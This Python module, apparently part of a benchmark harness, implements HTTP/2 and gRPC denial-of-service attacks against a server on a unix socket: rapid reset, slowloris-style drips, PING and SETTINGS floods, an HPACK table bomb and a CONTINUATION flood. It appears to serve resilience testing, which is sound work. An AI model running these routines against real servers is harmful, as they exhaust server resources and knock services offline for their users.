"""The attacks: each harms a server until a set time, and returns a count of its acts."""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass
from functools import partial
from typing import Any

from bench.attackers.http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MOST_BYTES,
    PING,
    SETTINGS,
    Caller,
    Connection,
    Ended,
    call,
    frame,
    greeting,
    header,
    headers_of,
    reset,
)

_AT_ONCE = 100
"""Frames or calls in one write."""
_GREETING = greeting()
_PING_BYTES = b"attacker"
_LONG = 4000
"""Bytes. A header of this length fits into the table that every server keeps."""
_REFERENCE = b"\xbe"
"""Refers to the header that entered the table last."""
_DRIP_SECONDS = 0.25
_PAUSE_SECONDS = 0.05


@dataclass(frozen=True)
class Target:
    """A server to attack.

    Attributes:
        socket: its unix socket.
        requests: serialized requests by name of the RPC, and of the request after a dot, if any.
        until: the end of the attack, on the monotonic clock.
    """

    socket: str
    requests: Mapping[str, bytes]
    until: float

    @property
    def calls(self) -> list[tuple[str, bytes]]:
        """The RPC and the request of each call."""
        return [(name.partition(".")[0], each) for name, each in self.requests.items()]

    @property
    def seconds(self) -> float:
        """The seconds until the end."""
        return max(0.0, self.until - time.monotonic())

    def connect(self, begin: bytes = _GREETING, *, reads: bool = True) -> Connection:
        """A new connection; see `Connection`."""
        return Connection(self.socket, self.until, begin, reads=reads)


Attack = Callable[[Target], int]
_Work = Callable[[Connection], Iterator[int]]


def _on(target: Target, count: int, open_one: Callable[[], Connection], work: _Work) -> int:
    """Work on a number of connections, with a new one for each that the server closes.

    Each connection has a thread. The sum of the numbers that they yield is returned.
    """

    def one(_: int) -> int:
        done = 0
        while target.seconds:
            try:
                with closing(open_one()) as connection:
                    for number in work(connection):
                        done += number
            except Ended:
                time.sleep(_PAUSE_SECONDS if not done else 0)
        return done

    with ThreadPoolExecutor(count) as pool:
        return sum(pool.map(one, range(count)))


def _rapid_reset(target: Target, connections: int) -> int:
    ((method, message),) = target.calls
    headers = headers_of(method)

    def work(connection: Connection) -> Iterator[int]:
        streams = itertools.count(1, 2)
        while True:
            some = itertools.islice(streams, _AT_ONCE)
            pairs = (call(each, headers, message) + reset(each) for each in some)
            connection.send(b"".join(pairs))
            yield _AT_ONCE

    return _on(target, connections, target.connect, work)


def _unread(target: Target, calls: int) -> int:
    ((method, message),) = target.calls
    headers = headers_of(method)
    streams = range(1, 2 * _AT_ONCE, 2)
    text = b"".join(call(each, headers, message) for each in streams)
    begin = greeting(window=0) + text
    return _held(target, [begin] * (calls // _AT_ONCE)) * _AT_ONCE


def _held(target: Target, begins: Sequence[bytes], drips: Sequence[bytes] = ()) -> int:
    """Hold connections that never read, and send the drips, one at a time, on each of them.

    Returns:
        The number of connections that the server has not closed.
    """
    with ExitStack() as stack:
        held = []
        for begin in begins:
            with suppress(Ended):
                held.append(stack.enter_context(closing(target.connect(begin, reads=False))))
        for drip in drips:
            for each in held:
                with suppress(Ended):
                    each.send(drip)
            time.sleep(min(_DRIP_SECONDS, target.seconds))
        time.sleep(target.seconds)
        return sum(each.is_open for each in held)


def _idle(target: Target, connections: int) -> int:
    return _held(target, [_GREETING] * connections)


def _slow(target: Target, connections: int) -> int:
    ((method, _),) = target.calls
    # More bytes than there is time for.
    headers = headers_of(method)
    drips = [bytes([each]) for each in frame(HEADERS, END_HEADERS | END_STREAM, 1, headers)]
    return _held(target, [_GREETING] * connections, drips)


def _slow_preface(target: Target, connections: int) -> int:
    return _held(target, [b""] * connections, [bytes([each]) for each in _GREETING])


def _flood(target: Target, part: bytes, *, reads: bool) -> int:
    """Send a frame again and again, on eight connections."""

    def work(connection: Connection) -> Iterator[int]:
        while True:
            connection.send(part * _AT_ONCE)
            yield _AT_ONCE

    return _on(target, 8, partial(target.connect, reads=reads), work)


def _bomb(target: Target) -> int:
    ((method, _),) = target.calls
    kept = headers_of(method) + header("x-bomb", "b" * _LONG, kept=True)
    first = kept + _REFERENCE * (MOST_BYTES - len(kept))

    def work(connection: Connection) -> Iterator[int]:
        connection.send(frame(HEADERS, END_HEADERS, 1, first))
        for stream in itertools.count(3, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, _REFERENCE * MOST_BYTES))
            yield 1

    return _on(target, 8, target.connect, work)


def _continuations(target: Target) -> int:
    ((method, _),) = target.calls
    more = b"".join(header(f"x-{number}", "c" * 1000) for number in range(16))

    def work(connection: Connection) -> Iterator[int]:
        connection.send(frame(HEADERS, 0, 1, headers_of(method)))
        while True:
            connection.send(frame(CONTINUATION, 0, 1, more))
            yield 1

    return _on(target, 8, target.connect, work)


def _calls(target: Target, connections: int, under_way: int) -> int:
    """Make calls with short messages; each is made again when it has ended."""
    ((method, message),) = target.calls
    headers = headers_of(method)

    def work(connection: Connection) -> Iterator[int]:
        assert isinstance(connection, Caller)
        streams = itertools.count(1, 2)
        wanted = under_way
        while True:
            some = itertools.islice(streams, wanted)
            connection.send(b"".join(call(each, headers, message) for each in some))
            yield (wanted := connection.ended())

    return _on(target, connections, partial(Caller, target.socket, target.until), work)


def _long_calls(target: Target, threads: int, *, once: bool = False) -> int:
    """Make calls with long messages, each over a connection of its own, and once if so wanted."""
    import grpc

    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]

    def one(_: int) -> int:
        for made, (method, message) in enumerate(itertools.cycle(target.calls)):
            if not target.seconds or (made and once):
                return made
            with grpc.insecure_channel(f"unix:{target.socket}", options=options) as channel:
                ask: Any = channel.unary_unary(f"/api.DagsterApi/{method}")
                try:
                    ask(message, timeout=target.seconds)
                except grpc.RpcError:
                    time.sleep(_PAUSE_SECONDS)
        raise AssertionError("there are requests")

    with ThreadPoolExecutor(threads) as pool:
        return sum(pool.map(one, range(threads)))


ATTACKS: Mapping[str, Attack] = {
    "reset-1": partial(_rapid_reset, connections=1),
    "reset-8": partial(_rapid_reset, connections=8),
    "unread": partial(_unread, calls=500),
    "waiting": partial(_long_calls, threads=25, once=True),
    "idle": partial(_idle, connections=2000),
    "slow-preface": partial(_slow_preface, connections=500),
    "slow-header": partial(_slow, connections=500),
    "pings": partial(_flood, part=frame(PING, 0, 0, _PING_BYTES), reads=True),
    "settings": partial(_flood, part=frame(SETTINGS, 0, 0), reads=False),
    "bomb": _bomb,
    "continuations": _continuations,
    "nested": partial(_long_calls, threads=8),
    "calls": partial(_calls, connections=50, under_way=40),
    "ticks": partial(_calls, connections=50, under_way=20),
}
"""The attacks by name."""
